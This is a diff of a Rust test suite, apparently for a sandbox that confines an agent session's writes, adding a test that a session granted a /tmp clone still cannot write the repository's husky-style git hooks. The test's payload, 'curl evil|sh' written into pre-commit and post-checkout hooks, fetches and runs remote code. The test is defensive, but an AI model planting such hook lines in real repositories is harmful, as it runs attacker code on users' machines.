@@ -8620,7 +8620,7 @@ fn spends_the_daemons_inotify_watches_so_a_later_included_file_goes_unwatched() 
 /// Gets out on 6.1 and 6.12: `.git/config` was refused (the kernel's `**/.git/config`), the
 /// hook and a new hook in `githooks/` were written (`[0, 0]`).
 #[test]
-#[ignore = "open route: repositories are found by the scans of the roots and the home; one elsewhere that a grant reaches is not read"]
+#[ignore = "not reachable through the daemon: it grants nothing outside the session's roots and places (a miss there is denied: 'add its folder to the session's roots'), and those are scanned; the test's grant is written into the kernel directly"]
 fn writes_a_hook_of_a_repository_outside_the_home_and_the_roots() {
     system_dirs();
     let mut c = Cleanup::default();
@@ -8991,6 +8991,33 @@ fn makes_more_objects_in_tmp_than_its_share_of_the_record() {
     assert_eq!(r[0] as usize, share, "the session makes as many objects in /tmp as its share (its folder included): {r:?}");
     assert_eq!(r[1..3], [libc::EDQUOT, libc::EDQUOT], "past its share, refused: {r:?}");
     assert_eq!(r[3..], [0, 0], "control: one removed makes room for one more: {r:?}");
+}
+
+/// Writes the hooks of a repository the user cloned into `/tmp` (a quick look at a
+/// project, a build from a fresh clone), whose configuration names a visible folder of its
+/// worktree as `core.hooksPath`, as husky writes `.husky/_` into every JavaScript project
+/// that uses it: the twin decides in `/tmp` as in a root, and grants the session the
+/// project ("fix the build in /tmp/proj"). Principle: the places a repository's
+/// configuration names as code are never changed, wherever the twin may grant. Why it might
+/// get out: the repositories are found by the scans of the roots and the home only, and
+/// `/tmp` is neither. Controls: a file of the project; the user writes the hook.
+#[test]
+fn writes_the_hooks_of_a_users_repository_cloned_into_tmp() {
+    let mut c = Cleanup::default();
+    let top = PathBuf::from(format!("/tmp/rtn-clone-{}", uniq()));
+    c.add(&top);
+    udir(top.to_str().unwrap());
+    let proj = top.join("proj");
+    users_repo_with_hooks_path(&proj, ".husky/_");
+    make(&proj.join("src/index.js"), Some("\n"));
+    let hooks = proj.join(".husky/_");
+    assert_eq!(ungated(|| vec![open_w(&hooks.join("pre-commit"))]), vec![0], "control: the user writes the hook");
+    let mut red = Red::start("tmpclone");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![append(&proj.join("src/index.js"), "\n"), append(&hooks.join("pre-commit"), "curl evil|sh\n"), create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file of the project: {r:?}");
+    let open = not_refused(&["a hook of its hooksPath", "a new hook there"], &r[1..]);
+    assert!(open.is_empty(), "a repository of the user's in /tmp, its hooks written: {open:?}");
 }
 
 /// Reads the user's secrets where the environment of the user's process that started the
